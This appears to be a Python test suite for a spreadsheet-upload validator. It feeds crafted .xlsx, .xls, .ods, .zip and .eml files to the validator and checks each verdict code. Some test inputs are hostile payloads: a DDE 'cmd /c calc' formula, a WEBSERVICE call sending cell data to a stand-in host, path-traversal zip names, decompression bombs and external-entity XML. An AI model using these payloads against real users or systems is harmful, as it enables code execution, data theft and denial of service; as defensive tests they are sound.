case("ActiveX", "taken", lambda: form(**{"xl/activeX/activeX1.xml": "<x/>", "xl/activeX/activeX1.bin": noise(900)}))
case("link to another workbook", "taken external-link", lambda: form(**{"xl/externalLinks/externalLink1.xml": "<externalLink/>"}))
case("link over the net, in relations", "taken external-link", lambda: with_relation("externalLinkPath", "\\\\203.0.113.1\\x\\a.xlsx", ' TargetMode="External"', "xl/externalLinks/_rels/externalLink1.xml.rels"))
case("data connection", "taken external-link", lambda: form(**{"xl/connections.xml": "<connections/>"}))
case("hyperlink to a share", "taken external-link", lambda: with_relation("hyperlink", "file://203.0.113.1/share", ' TargetMode="External"', "xl/worksheets/_rels/sheet1.xml.rels"))
case("hyperlink to the web", "taken", lambda: with_relation("hyperlink", "https://langson.gov.vn", ' TargetMode="External"', "xl/worksheets/_rels/sheet1.xml.rels"))
case("picture from the web", "taken external-link", lambda: with_relation("image", "https://203.0.113.1/x.png", ' TargetMode="External"', "xl/drawings/_rels/drawing1.xml.rels"))
case("template attached from the web", "taken external-link", lambda: with_relation("attachedTemplate", "https://203.0.113.1/x.xltm", ' TargetMode="External"', RELS))
case("custom interface", "taken", lambda: form(**{"customUI/customUI14.xml": '<customUI onLoad="x"/>'}))
case("digital signature", "taken", lambda: form(**{"_xmlsignatures/sig1.xml": "<Signature/>"}))
case("properties without name or text", "taken", lambda: form(**{CUSTOM: "<Properties><property/><property name='x'><y/></property></Properties>"}))
case("three thousand hyperlinks", "taken", lambda: form(**{"xl/worksheets/_rels/sheet1.xml.rels": "<Relationships>" + "".join(f'<Relationship Id="r{i}" Type="{sheets.RELATIONS}/hyperlink" Target="https://a.vn/{i}" TargetMode="External"/>' for i in range(3_000)) + "</Relationships>"}))

# ------------------------------------------------------------------ sheets

GROUP = "sheet"
DIGITS = str.maketrans("abcdef", "012345")
LETTERS = [chr(65 + i) for i in range(26)]


def cells(count: int, xml: str, per: int = 20, first: int = 100) -> str:
    rows = range(first, first + count // per)
    return "".join(f'<row r="{r}">' + "".join(xml.format(f"{c}{r}") for c in LETTERS[:per]) + "</row>" for r in rows)


MILLION = 1 << 20
case("a value in XFD1048576", "taken", lambda: with_rows('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
case("a value beyond every sheet", "taken", lambda: with_rows('<row r="1048577"><c r="XFD1048577"><v>1</v></c><c r="XFE1"><v>1</v></c><c r="ZZZZ1"><v>1</v></c></row>'))
case("million formatted rows", "taken", lambda: with_rows("".join(f'<row r="{r}" s="1" customFormat="1"/>' for r in range(50, MILLION + 1))))
case("million formatted rows as Excel writes them", "taken", lambda: with_rows("".join(f'<row r="{r}" spans="1:10" s="4" customFormat="1" ht="15.75" customHeight="1" dyDescent="0.25"/>' for r in range(50, MILLION + 1))))
case("million formatted rows with a cell each", "taken", lambda: with_rows("".join(f'<row r="{r}"><c r="A{r}" s="1"/></row>' for r in range(50, MILLION + 1))))
case("million formatted rows as LibreOffice writes them", "taken", lambda: with_rows("".join(f'<row r="{r}" customFormat="false" ht="12.8" hidden="false" customHeight="false" outlineLevel="0" collapsed="false"><c r="A{r}" s="1"/></row>' for r in range(50, MILLION + 1))))
case("million hidden rows", "taken", lambda: with_rows("".join(f'<row r="{r}" hidden="1"/>' for r in range(50, MILLION + 1))))
case("million rows, a figure of the form behind them", "taken", lambda: form(**{DATA: SHEET.replace("<sheetData>", "<sheetData>" + "".join(f'<row r="{r}" s="1"/>' for r in range(50, MILLION + 1)))}))
case("million rows without numbers", "too-large", lambda: with_rows("<row/>" * MILLION))
case("two million formatted rows", "taken|too-large", lambda: with_rows("".join(f'<row r="{r}" s="1"/>' for r in range(2 * MILLION))))
case("three million formatted cells", "taken", lambda: with_rows(cells(3_000_000, '<c r="{}" s="1"/>')))
case("million formatted cells in another order", ANY, lambda: with_rows(cells(1_000_000, '<c s="1" r="{}"/>')))
case("45,000 numbers", "too-large", lambda: with_rows(cells(45_000, '<c r="{}"><v>1</v></c>')))
case("300,020 numbers", ANY, lambda: with_rows(cells(300_020, '<c r="{}"><v>1</v></c>')))
case("30,000 numbers", "taken", lambda: with_rows(cells(30_000, '<c r="{}"><v>1</v></c>')))
case("30,000 texts on another sheet", "taken", lambda: form(**{"xl/worksheets/sheet4.xml": sheets.sheet_xml(cells(30_000, '<c r="{}" t="inlineStr"><is><t>Số liệu</t></is></c>'))}))
case("300,000 numbers on the scratch sheet", "taken", lambda: form(**{"xl/worksheets/sheet3.xml": sheets.sheet_xml(cells(300_000, '<c r="{}"><v>1</v></c>'))}))
case("merged 65,000 x 200", "taken", lambda: with_after('<mergeCells><mergeCell ref="A1:GR65000"/></mergeCells>'))
case("merged beside the form, 65,000 x 200", "taken", lambda: with_after('<mergeCells><mergeCell ref="Z100:JA65000"/></mergeCells>'))
case("merges that overlap", "partly cell-error", lambda: with_after('<mergeCells><mergeCell ref="F12:F13"/><mergeCell ref="F13:G14"/></mergeCells>'))
case("10,000 merges", "too-large", lambda: with_after("<mergeCells>" + "".join(f'<mergeCell ref="Z{i}:AA{i}"/>' for i in range(1, 10_001)) + "</mergeCells>"))
case("merges that are none", "taken", lambda: with_after('<mergeCells><mergeCell ref=""/><mergeCell/><mergeCell ref="A0:A-1"/><mergeCell ref="F12"/></mergeCells>'))
case("merge from the far corner", "partly cell-error", lambda: with_after('<mergeCells><mergeCell ref="F13:F12"/></mergeCells>'))
case("rows in reverse order", "taken", lambda: form(**{DATA: re.sub("(<row.*</row>)", lambda m: "".join(reversed(re.findall("<row.*?</row>", m[0]))), SHEET)}))
case("a cell twice, nearly alike", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F12"><v>5.0</v></c>'))
case("a cell twice, unlike", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F12"><v>50</v></c>'))
case("a cell once more at the end", "partly cell-error", lambda: with_rows('<row r="12"><c r="F12"><v>50</v></c></row>'))
case("a cell that names another row", "partly cell-error", lambda: with_cell("F12", '<c r="F12"><v>5</v></c><c r="F13"><v>50</v></c>'))
for number in ("0", "-5", "99999999999", "x", "1.5", "1e3", "٣"):
    case(f"row number {number}", "taken", lambda n=number: with_rows(f'<row r="{n}"><c r="Z{n}"><v>1</v></c></row>'))
case("references in lower case", "taken", lambda: form(**{DATA: re.sub(r'<c r="([A-Z]+[0-9]+)"', lambda m: m[0].lower(), SHEET)}))
case("references with $", "missing-value", lambda: form(**{DATA: re.sub(r'<c r="F([0-9]+)"', r'<c r="$F$\1"', SHEET)}))
for literal in ("NaN", "inf", "-INF", "1e999", "0x1F", "1_000", "1,5", "5 6", "--5", "٥", "½", "1e", "5e99999"):
    case(f"number literal {literal}", "partly", lambda t=literal: with_cell("F12", f'<c r="F12"><v>{t}</v></c>'))
case("number literal of 2 MB", "partly", lambda: with_cell("F12", f'<c r="F12"><v>{words(2_000_000).translate(DIGITS)}</v></c>'))
case("number with spaces around", "taken", lambda: with_cell("F12", '<c r="F12"><v> \n5 </v></c>'))
case("number in plus and exponent", "taken", lambda: with_cell("F12", '<c r="F12"><v>+0.5E1</v></c>'))
for told in ("n", "b", "e", "str", "d", "s", "inlineStr", "x", "", "N"):
    case(f"type {told!r} around a word", "partly", lambda t=told: with_cell("F12", f'<c r="F12" t="{t}"><v>abc</v></c>'))
case("boolean true in a figure", "partly", lambda: with_cell("F12", '<c r="F12" t="b"><v>true</v></c>'))
case("boolean 2", "partly cell-error", lambda: with_cell("F12", '<c r="F12" t="b"><v>2</v></c>'))
case("ISO date in a figure", "partly date-as-number", lambda: with_cell("F12", '<c r="F12" t="d"><v>2026-03-01</v></c>'))
case("date beyond the calendar", "partly", lambda: with_cell("F12", '<c r="F12" t="d"><v>99999-99-99</v></c>'))
for index in ("-1", "0", "99", "99999999999999999999", "1.0", "x", ""):
    case(f"shared text {index!r} of none", "partly", lambda i=index: with_cell("F12", f'<c r="F12" t="s"><v>{i}</v></c>'))
case("shared text as it should be", "taken number-as-text", lambda: with_texts("<si><t>5</t></si>", '<c r="F12" t="s"><v>0</v></c>'))
case("shared text -1", "partly cell-error", lambda: with_texts("<si><t>5</t></si>", '<c r="F12" t="s"><v>-1</v></c>'))
case("shared text of 3 MB", "partly", lambda: with_texts(f"<si><t>{words(3_000_000)}</t></si>", '<c r="F12" t="s"><v>0</v></c>'))
case("rich text of 2 MB", "partly", lambda: with_texts("<si>" + "".join(f"<r><rPr><b/></rPr><t>{words(40)}</t></r>" for _ in range(30_000)) + "</si>", '<c r="F12" t="s"><v>0</v></c>'))
case("million shared texts", "too-large", lambda: with_texts("<si><t>a</t></si>" * 1_000_000, '<c r="F12"><v>5</v></c>'))
case("one text that all cells share", "taken", lambda: with_texts(f"<si><t>{'a' * 30_000}</t></si>", '<c r="F12"><v>5</v></c>'))
case("inline text of 9 MB", "partly", lambda: with_cell("F12", f'<c r="F12" t="inlineStr"><is><t>{words(9_000_000)}</t></is></c>'))
case("inline texts of 20 MB together", "too-large", lambda: with_rows(cells(3_000, f'<c r="{{}}" t="inlineStr"><is><t>{noise(4_000).hex()}</t></is></c>')))
case("inline rich text in a figure", "taken number-as-text", lambda: with_cell("F12", '<c r="F12" t="inlineStr"><is><r><t>5</t></r><r><t></t></r><rPh><t>9</t></rPh></is></c>'))
case("formula of 5 MB", "partly formula-in-input", lambda: with_cell("F12", f'<c r="F12"><f>{words(5_000_000)}</f><v>5</v></c>'))
case("array formula over a million cells", "formula-in-input", lambda: with_cell("F12", '<c r="F12"><f t="array" ref="F12:XFD1048576">1</f><v>5</v></c>'))
case("shared formula without its first", "partly formula-in-input", lambda: with_cell("F12", '<c r="F12"><f t="shared" si="9"/><v>5</v></c>'))
case("DDE", "partly formula-in-input", lambda: with_cell("F12", "<c r=\"F12\"><f>cmd|'/c calc'!A0</f><v>5</v></c>"))
case("DDE as text in a source", "taken", lambda: with_cell("H12", '<c r="H12" t="inlineStr"><is><t>=cmd|\'/c calc\'!A0</t></is></c>'))
case("WEBSERVICE", "partly formula-in-input", lambda: with_cell("F12", '<c r="F12"><f>_xlfn.WEBSERVICE("http://203.0.113.1/"&amp;A1)</f><v>5</v></c>'))
case("error cell", "partly cell-error", lambda: with_cell("F12", '<c r="F12" t="e"><v>#SPILL!</v></c>'))
case("cells within cells", "partly cell-error missing-value", lambda: with_cell("F12", '<c r="F12"><c r="F13"><v>50</v></c><v>5</v></c>'))
case("two values in a cell", "partly not-a-number", lambda: with_cell("F12", '<c r="F12"><v>5</v><v>50</v></c>'))
case("style index 4 billion", "taken", lambda: with_cell("F12", '<c r="F12" s="4294967296"><v>5</v></c>'))
case("style index -1", "taken", lambda: with_cell("F12", '<c r="F12" s="-1"><v>5</v></c>'))
case("65,000 styles", "taken", lambda: form(**{STYLES: f'<styleSheet xmlns="{sheets.MAIN}"><cellXfs>' + "".join(f'<xf numFmtId="0" fontId="{words(4)}"/>' for _ in range(65_000)) + "</cellXfs></styleSheet>"}))
case("number format of 5 MB", "too-large", lambda: form(**{STYLES: PARTS[STYLES].replace("dd/mm/yyyy", "[x]&quot;" * 500_000)}))
case("two tables of rows", "partly cell-error", lambda: form(**{DATA: SHEET.replace("</sheetData>", '</sheetData><sheetData><row r="12"><c r="F12"><v>50</v></c></row></sheetData>')}))
case("footer of 5 MB", "taken", lambda: with_after(f"<headerFooter><oddFooter>{words(5_000_000)}</oddFooter></headerFooter>"))
case("sheet name of 1 MB", "taken", lambda: form(**{BOOK: PARTS[BOOK].replace('name="Nháp"', f'name="{"x" * 900_000}"')}))
case("a thousand stamps", "taken forged-form stray-content", lambda: with_rows(cells(1_000, '<c r="{}" t="inlineStr"><is><t>LSI1-AAAA-2025-x-y-z</t></is></c>')))

# ------------------------------------------------------------------ other contents

GROUP = "content"
for told, content, code in (
    ("nothing", b"", "unreadable-file"),
    ("one byte", b"P", "unreadable-file"),
    ("zeros", bytes(5_000), "unreadable-file"),
    ("noise", bytes(range(128, 256)) * 40, "unreadable-file"),
    ("HTML", b"<html><table><tr><td>5</td></tr></table></html>", "unsupported-format"),
    ("HTML with a mark, in capitals", b"\xef\xbb\xbf\r\n<!DOCTYPE HTML PUBLIC>", "unsupported-format"),
    (
        "MHTML",
        b"MIME-Version: 1.0\r\nX-Document-Type: Workbook\r\nContent-Type: multipart/related; boundary=x\r\nFrom: <Saved by Excel>\r\nDate: x\r\n\r\n--x--",
        "unsupported-format",
    ),
    (
        "SpreadsheetML 2003",
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "unsupported-format",
    ),
    (
        "flat ods",
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        "unsupported-format",
    ),
    ("CSV", "Mã số liệu;Năm 2025\nC01_A;5\n".encode(), "unreadable-file"),
    ("CSV in UTF-16", "Mã số liệu\tNăm 2025\nC01_A\t5\n".encode("utf-16"), "unreadable-file"),
    ("CSV in TCVN3", b"M\xb7 s\xe8 li\xd6u;5\n", "unreadable-file"),
    ("SYLK", b"ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K5\r\nE\r\n", "unreadable-file"),
    ("DIF", b"TABLE\r\n0,1\r\n", "unreadable-file"),
    ("Google shortcut", b'{"":"","doc_id":"1","resource_key":""}', "unsupported-format"),
    ("PDF", b"%PDF-1.7\n", "unsupported-format"),
    ("RTF", b"{\\rtf1}", "unsupported-format"),
    ("RAR", b"Rar!\x1a\x07\x01\0", "unsupported-format"),
    ("7z", b"7z\xbc\xaf\x27\x1c\0\x04", "unsupported-format"),
    ("gzip", b"\x1f\x8b\x08\0" + bytes(20), "unsupported-format"),
    ("JPEG", b"\xff\xd8\xff\xe0\0\x10JFIF", "unsupported-format"),
    ("PNG", b"\x89PNG\r\n\x1a\n", "unsupported-format"),
    ("HEIC", b"\0\0\0\x18ftypheic", "unsupported-format"),
    ("Windows shortcut", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "unsupported-format"),
    ("web shortcut", b"[InternetShortcut]\r\nURL=https://a.vn\r\n", "unsupported-format"),
    ("winmail.dat", b"\x78\x9f\x3e\x22" + bytes(60), "unsupported-format"),
    ("SQLite", b"SQLite format 3\0" + bytes(90), "unsupported-format"),
    ("Numbers", sheets.zipped({"Index/Document.iwa": "x"}), "unsupported-format"),
    ("EPUB", sheets.zipped({"mimetype": "application/epub+zip"}), "unsupported-format"),
    ("Excel 4", b"\x09\x04\x06\0\0\0\x10\0", "unsupported-format"),
    ("program", b"MZ" + bytes(range(256)) * 10, "unreadable-file"),
    ("10 MB and one byte", b"\0" * ((10 << 20) + 1), "too-large"),
    ("a form of 11 MB", FORM + b"\0" * (11 << 20), "too-large"),
):
    case(told, code, lambda c=content: c)
case("32 MB of text", "too-large", lambda: b"a,b\n" * (8 << 20))
case("headers without end", "unreadable-file", lambda: b"Subject: x\n" * (1 << 20))
case("encrypted .xlsx", "encrypted-file", lambda: ole("EncryptionInfo", "EncryptedPackage", body=noise(9_000)))
case("encrypted .xls", "encrypted-file", lambda: ole("Workbook", body=(BIFF + b"\0" * 4 + bytes.fromhex("2f003600")).ljust(4096, b"\1")))
case("Word 97", "unsupported-format", lambda: ole("WordDocument", "1Table"), "bieu.xls")
case("PowerPoint 97", "unsupported-format", lambda: ole("PowerPoint Document"), "bieu.xls")
case("Outlook .msg", "unsupported-format", lambda: ole("__properties_version1.0"), "thu.msg")
case("OLE head alone", "unreadable-file", lambda: ole()[:8], "bieu.xls")
case("OLE without streams", "unreadable-file", lambda: ole(), "bieu.xls")
case(".xls of noise", "unreadable-file", lambda: ole("Workbook", body=noise(30_000)), "bieu.xls")
case(".xls with records of noise", "unreadable-file", lambda: ole("Workbook", body=(BIFF + noise(30_000)).ljust(40_000)), "bieu.xls")
case(".xls of 9 MB of streams", "unreadable-file", lambda: ole("Workbook") + ole("Workbook")[512:640] * 70_000, "bieu.xls")
case(".xls with sector chains in a circle", "unreadable-file", lambda: ole("Workbook")[:512] + b"\0\0\0\0" * 2_000, "bieu.xls")
case("the form as .xls", "taken", lambda: old_form(), "bieu.xls")
case(".xls with a cell in the far corner of three sheets", "taken", lambda: old_form({f"T{n}": {(0, 0): 5, (65_535, 255): 6} for n in range(3)}), "bieu.xls")
case(".xls with a day beyond all calendars", "taken", lambda: old_form({"T": {(0, 0): xls.Styled(25e12, xls.DAY)}}), "bieu.xls")
case(".xls with 2,000 sheets over one content", "too-large", lambda: old_form({"T": {(n // 20, n % 20): n for n in range(39_000)}}, listed=[(f"s{n}", 0) for n in range(2_000)]), "bieu.xls")
case(".xls with two sheets over one content", "unreadable-file", lambda: old_form(listed=[("khác", 0)]), "bieu.xls")
case(".xls with a million records", "too-large", lambda: old_form({"T": {(0, 0): xls.record(0x99) * 1_700_000}}), "bieu.xls")
case(".xls with 45,000 numbers", "too-large", lambda: old_form({"T": {(n // 20, n % 20): n for n in range(45_000)}}), "bieu.xls")
case(".xls with a text that all cells share", "too-large", lambda: old_form({"T": {(n // 20, n % 20): "a" * 30_000 for n in range(30_000)}}), "bieu.xls")
case(".xls with texts of 6 MB", "taken", lambda: old_form({"T": {(n, 0): words(30_000) for n in range(110)}}), "bieu.xls")
case(".xls whose texts are told as 4 billion", "taken", lambda: patched_old(0xFC, 8, b"\xff" * 4), "bieu.xls")
case(".xls with a text told as 65,535 characters", "unreadable-file", lambda: patched_old(0xFC, 12, b"\xff\xff"), "bieu.xls")
case(".xls whose tables of sectors are one", "unreadable-file", lambda: one_table(), "bieu.xls")
case(".xls truncated", "unreadable-file", lambda: old_form()[:3_000], "bieu.xls")
case(".xls that calamine alone can open, far corner", "unreadable-file", lambda: xls.compound(xls.stream({f"T{n}": {(0, 0): 5, (65_535, 255): 6} for n in range(3)}), below_root=False), "bieu.xls")
case("Word document .docm as .xls", "unsupported-format", lambda: sheets.zipped({TYPES: "<Types/>", "word/document.xml": "<x/>"}), "bieu.xls")



def old_form(pages: Mapping[str, object] = MappingProxyType({}), **more) -> bytes:
    """The form as an .xls, with more sheets behind it."""
    return xls.book({**xls.form_pages(PARTS), **pages}, hidden=(layout.HIDDEN,), protected=(layout.DATA,), **more)


def patched_old(kind: int, at: int, changed: bytes) -> bytes:
    """The form as an .xls with bytes changed in its first record of ``kind``."""
    stream, place = xls.stream(xls.form_pages(PARTS)), 0
    while struct.unpack_from("<H", stream, place)[0] != kind:
        place += 4 + struct.unpack_from("<H", stream, place + 2)[0]
    return xls.compound(stream[: place + at] + changed + stream[place + at + len(changed) :])


def one_table() -> bytes:
    """A compound file whose tables of sectors are all the same one, over and over: gigabytes when put together."""
    content = bytearray(old_form())
    content[44:48] = struct.pack("<I", 1 << 20)
    content[68:76] = struct.pack("<II", 1, 1 << 20)
    content[76:512] = content[76:80] * 109
    content[1024:1536] = content[76:80] * 127 + struct.pack("<I", 1)
    return bytes(content)


# ------------------------------------------------------------------ .ods

GROUP = "ods"
NUMBER = '<table:table-cell office:value-type="float" office:value="{}"{}><text:p>{}</text:p></table:table-cell>'
EMPTY_ROWS = '<table:table-row table:number-rows-repeated="{}"><table:table-cell table:number-columns-repeated="{}"{}/></table:table-row>'


def ods_case(name: str, wanted: str, make: Callable[[], Files]) -> None:
    case(name, wanted, make, "bieu.ods")


ods_case("the form", "taken", lambda: ods())
ods_case("formatted to the last row and column", "taken", lambda: ods(EMPTY_ROWS.format(1_048_537, 16_384, ' table:style-name="ce1"')))
ods_case("rows repeated 4 billion times", "taken", lambda: ods(EMPTY_ROWS.format(4_294_967_295, 4_294_967_295, "")))
ods_case("rows repeated -1 times", "taken", lambda: ods(EMPTY_ROWS.format(-1, "x", "")))
ods_case("a number in every cell of the sheet", "too-large", lambda: ods('<table:table-row table:number-rows-repeated="1048000">' + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
ods_case("a number repeated over 16,384 columns", "taken stray-content", lambda: ods("<table:table-row>" + NUMBER.format(5, ' table:number-columns-repeated="16384"', 5) + "</table:table-row>"))
ods_case("a text repeated a million times", "too-large", lambda: ods('<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>'))
ods_case("a number in the last cell", "taken", lambda: ods(EMPTY_ROWS.format(1_048_536, 1, "") + '<table:table-row><table:table-cell table:number-columns-repeated="16383"/>' + NUMBER.format(1, "", 1) + "</table:table-row>"))
ods_case("spaces repeated 4 billion times", "taken number-as-text", lambda: ods(spoilt='<table:table-cell office:value-type="string"><text:p>5<text:s text:c="4294967295"/></text:p></table:table-cell>'))
ods_case("text nested 30,000 deep", "unreadable-file", lambda: ods(spoilt='<table:table-cell office:value-type="string"><text:p>' + "<text:span>" * 30_000 + "5" + "</text:span>" * 30_000 + "</text:p></table:table-cell>"))
ods_case("merged over everything", "cell-error", lambda: ods(spoilt=NUMBER.format(5, ' table:number-columns-spanned="16384" table:number-rows-spanned="1048576"', 5)))
ods_case("a million rows", f"taken|{ANY}", lambda: ods("<table:table-row/>" * 1_000_000))
ods_case("300,000 numbers", f"taken|{ANY}", lambda: ods("".join("<table:table-row>" + NUMBER.format(1, "", 1) * 20 + "</table:table-row>" for _ in range(15_000))))
ods_case("DOCTYPE", "unreadable-file", lambda: ods(before=ENTITY))
ods_case("entity from a file", "unreadable-file", lambda: ods(before=EXTERNAL, spoilt='<table:table-cell office:value-type="string"><text:p>&a;</text:p></table:table-cell>'))
ods_case("number literal NaN", "partly", lambda: ods(spoilt=NUMBER.format("NaN", "", "NaN")))
ods_case("number literal 1e999", "partly", lambda: ods(spoilt=NUMBER.format("1e999", "", "?")))
ods_case("password", "encrypted-file", lambda: ods(content=noise(900), **{"META-INF/manifest.xml": "<manifest><file-entry><encryption-data/></file-entry></manifest>"}))
ods_case("manifest of 9 MB", "too-large", lambda: ods(**{"META-INF/manifest.xml": " " * (9 << 20)}))
ods_case("mimetype of 4 MB", "unsupported-format", lambda: ods(mimetype=CALC + " " * (4 << 20)))
ods_case("no mimetype", "taken", lambda: sheets.zipped({n: b for n, b in unpacked(ods()).items() if n != "mimetype"}))
ods_case("no content", "unreadable-file", lambda: ods(content=""))
ods_case("content cut", "unreadable-file", lambda: ods(content="<office:document-content><office:body>"))
ods_case("truncated", "unreadable-file", lambda: ods()[:900])
ods_case("macros", "taken macro-present", lambda: ods(**{"Basic/script-lc.xml": "<x/>"}))
ods_case("text document", "unsupported-format", lambda: ods(mimetype="application/vnd.oasis.opendocument.text"))
case("named .xlsx", "taken", lambda: ods())

# ------------------------------------------------------------------ .zip of returns

GROUP = "bundle"


def bundle(members: Mapping[str, bytes | str]) -> bytes:
    return sheets.zipped(members)


def zip_case(name: str, wanted: str | Mapping[str, str], make: Callable[[], bytes]) -> None:
    told = wanted if isinstance(wanted, str) else {f"gom.zip{'!' if n else ''}{n}": w for n, w in wanted.items()}
    case(name, told, make, "gom.zip")


def raw_named(raw: bytes, flag: int = 0) -> bytes:
    content = bundle({"x" * len(raw): FORM}).replace(b"x" * len(raw), raw)
    return (
        content[:6]
        + flag.to_bytes(2, "little")
        + re.sub(rb"(PK\x01\x02....)..", lambda m: m[1] + flag.to_bytes(2, "little"), content[8:], count=1, flags=re.S)
        if flag
        else content
    )


zip_case("the good are read beside the bad", {"a.xlsx": "taken", "b.xlsx": "unreadable-file", "c.pdf": "unsupported-format", "d.zip": "unsupported-format", "e.xlsx": "encrypted-file", "f.xlsx": "unreadable-file"}, lambda: bundle({"a.xlsx": FORM, "b.xlsx": FORM[:900], "c.pdf": b"%PDF", "d.zip": bundle({"x.xlsx": FORM}), "e.xlsx": ole("EncryptedPackage"), "f.xlsx": b""}))
zip_case("folders and what systems leave", {"2025/xã/a.xlsx": "taken"}, lambda: bundle({"2025/": "", "2025/xã/": "", "2025/xã/a.xlsx": FORM, "2025/.DS_Store": b"x", "__MACOSX/2025/._a.xlsx": b"x", "2025/Thumbs.db": b"x", "2025/~$a.xlsx": b"x", "2025/desktop.ini": "x"}))
zip_case("names in cp1258", {"Xã Hòa Thám.xlsx": "taken"}, lambda: raw_named("Xã Hòa Thám.xlsx".replace("ã", "a\u0303").replace("ò", "o\u0300").encode("cp1258")))
zip_case("names in cp437", {"Xa é.xlsx": "taken"}, lambda: raw_named("Xa é.xlsx".encode("cp437")))
zip_case("names in UTF-8 without saying so", {"Xã Hoa Thám.xlsx": "taken"}, lambda: raw_named("Xã Hoa Thám.xlsx".encode()))
zip_case("names that climb", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: bundle({"../../b.xlsx": FORM, "/etc/c.xlsx": FORM, "a.xlsx": FORM}))
zip_case("one name twice", {"a.xlsx": "taken"}, lambda: raw_zip([(b"a.xlsx", FORM, 1), (b"a.xlsx", FORM, 1)]))
zip_case("a link", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={5: b"\x03", 38: b"\0\0\xff\xa1"}))
zip_case("a member with a password", {"": "encrypted-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={8: b"\x01"}))
zip_case("a member packed oddly", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={10: b"\x0e"}))
zip_case("a member with a wrong checksum", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={16: b"1234"}))
zip_case("a member that is a bomb", {"": ANY, "a.xlsx": "taken"}, lambda: bundle({"a.xlsx": FORM, "b.xlsx": b"\0" * (12 << 20)}))
zip_case("a workbook inside that is a bomb", {"a.xlsx": "taken", "b.xlsx": ANY}, lambda: sheets.zipped({"a.xlsx": FORM, "b.xlsx": bomb(DATA, 1 << 30)}, method=zipfile.ZIP_STORED))
zip_case("members that overlap", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={42: b"\0\0\0\0"}))
zip_case("promises 2 GB", "unreadable-file", lambda: patched(bundle({"a.xlsx": FORM, "b.xlsx": FORM}), "b.xlsx", listed={24: b"\xff\xff\xff\x7f"}))
zip_case("60 MB together", "unreadable-file", lambda: bundle({f"{i}.xlsx": FORM + noise(64) * 160_000 for i in range(6)}))
zip_case("2,000 members", "unreadable-file", lambda: bundle({f"{i}.txt": "" for i in range(2_000)}))
zip_case("400,000 members told", "too-large", lambda: raw_zip([(b"a", b"x", 400_000)]))
zip_case("nested four times", {"2.zip": "unsupported-format"}, lambda: bundle({"2.zip": bundle({"3.zip": bundle({"4.zip": bundle({"a.xlsx": FORM})})})}))
zip_case("itself (a quine has the same shape)", {"r.zip": "unsupported-format"}, lambda: bundle({"r.zip": bundle({"r.zip": b"PK\x05\x06" + bytes(18)})}))
zip_case("nothing", "unsupported-format", lambda: b"PK\x05\x06" + bytes(18))
zip_case("texts and pictures alone", "unsupported-format", lambda: bundle({"đọc tôi.txt": "x", "a.log": "x"}))
zip_case("truncated", "unreadable-file", lambda: bundle({"a.xlsx": FORM, "b.xlsx": FORM})[:-40])
zip_case("junk before and after", "unreadable-file", lambda: b"MZ" + noise(500) + bundle({"a.xlsx": FORM}))
zip_case("another .zip before", {"": "unreadable-file", "a.xlsx": "taken"}, lambda: bundle({"b.xlsx": FORM}) + bundle({"a.xlsx": FORM}))
zip_case("100 forms", {f"{i:03}.xlsx": "taken" for i in range(100)}, lambda: bundle({f"{i:03}.xlsx": FORM for i in range(100)}))
zip_case("zip64, with forms that are only stored", {f"{i:03}.xlsx": "taken" for i in range(90)}, lambda: with_end_64(sheets.zipped({f"{i:03}.xlsx": FORM for i in range(90)}, method=zipfile.ZIP_STORED)))
zip_case("zip64, a million members told", "too-large", lambda: with_end_64(raw_zip([(b"a", b"x", 400_000)])))
zip_case("33 MB", "too-large", lambda: bundle({"a.xlsx": FORM}) + noise(1 << 20) * 33)

# ------------------------------------------------------------------ .eml

GROUP = "mail"


def mail_case(name: str, wanted: str | Mapping[str, str], make: Callable[[], bytes]) -> None:
    told = wanted if isinstance(wanted, str) else {f"thu.eml{'!' if n else ''}{n}": w for n, w in wanted.items()}
    case(name, told, make, "thu.eml")


for told, header in (
    ("RFC 2047", b'filename="=?utf-8?B?WMOjIEhvYSBUaMOhbS54bHN4?="'),
    ("RFC 2047 in two words", b'filename="=?utf-8?B?WMOjIEhvYQ==?=\r\n =?utf-8?Q?_Th=C3=A1m.xlsx?="'),
    ("RFC 2231", b"filename*=utf-8''X%C3%A3%20Hoa%20Th%C3%A1m.xlsx"),
    ("RFC 2231 in pieces", b"filename*0*=utf-8''X%C3%A3%20Hoa;\r\n filename*1*=%20Th%C3%A1m.xlsx"),
    ("raw UTF-8", 'filename="Xã Hoa Thám.xlsx"'.encode()),
    ("raw windows-1258", b'filename="Xa\xde Hoa Th\xe1m.xlsx"'),
    ("decomposed", 'filename="Xa\u0303 Hoa Tha\u0301m.xlsx"'.encode()),
    ("a path", 'filename="C:\\\\Users\\\\x\\\\Xã Hoa Thám.xlsx"'.encode()),
):
    mail_case(f"name in {told}", {"Xã Hoa Thám.xlsx": "taken"}, lambda h=header: mail(attached(h)))
mail_case("no name", {"tệp đính kèm 1": "taken"}, lambda: mail(attached(b"")))
mail_case("control characters in the name", {"a\ufffd\ufffdb.xlsx": "taken"}, lambda: mail(attached(b"filename*=utf-8''a%00%1Bb.xlsx")))
mail_case("quoted-printable", {"a.xlsx": "taken"}, lambda: mail(attached(FILE, encoding=b"quoted-printable")))
mail_case("8bit", {"a.xlsx": "taken|unreadable-file"}, lambda: mail(attached(FILE, encoding=b"8bit")))
